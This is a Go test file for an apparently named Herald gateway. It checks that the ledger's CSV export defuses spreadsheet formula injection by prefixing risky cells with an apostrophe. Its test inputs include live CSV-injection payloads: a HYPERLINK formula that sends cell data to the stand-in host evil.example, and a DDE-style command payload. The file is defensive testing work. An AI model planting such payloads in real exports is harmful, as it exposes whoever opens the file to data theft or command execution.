package gateway_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/heraldhq/herald"
	"github.com/heraldhq/herald/store/storetest"
)

// TestLedgerCSVNeutralisesFormulas: principals whose names start like a
// spreadsheet formula (= + - @; tab and CR are refused in names) act
// through the API; the ledger's CSV export, fetched by an auditor, holds no
// cell a spreadsheet would run, and their names survive behind a leading
// apostrophe.
func TestLedgerCSVNeutralisesFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, b storetest.Backend) {
		e := newEnv(t, b)
		actors := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"}
		for i, actor := range actors {
			key := e.newKey(e.org.ID, actor, herald.RoleOperator)
			if r := e.do("POST", "/v1/actions", key, e.sendReq("-10077"+string(rune('0'+i)), "transactional", "hi")); r.status != 201 {
				t.Fatalf("submit as %q = %d %s", actor, r.status, r.raw)
			}
		}
		r := e.do("GET", "/v1/ledger/export?format=csv", e.keys[herald.RoleAuditor], nil)
		if r.status != 200 {
			t.Fatalf("csv export = %d %s", r.status, r.raw)
		}
		rows, err := csv.NewReader(strings.NewReader(string(r.raw))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for i, row := range rows[1:] {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("row %d column %s starts a formula: %q", i+1, rows[0][j], cell)
				}
			}
			seen[row[4]] = true
		}
		for _, actor := range actors {
			if !seen["'"+actor] {
				t.Errorf("actor %q is not in the export as '%s", actor, actor)
			}
		}
	})
}
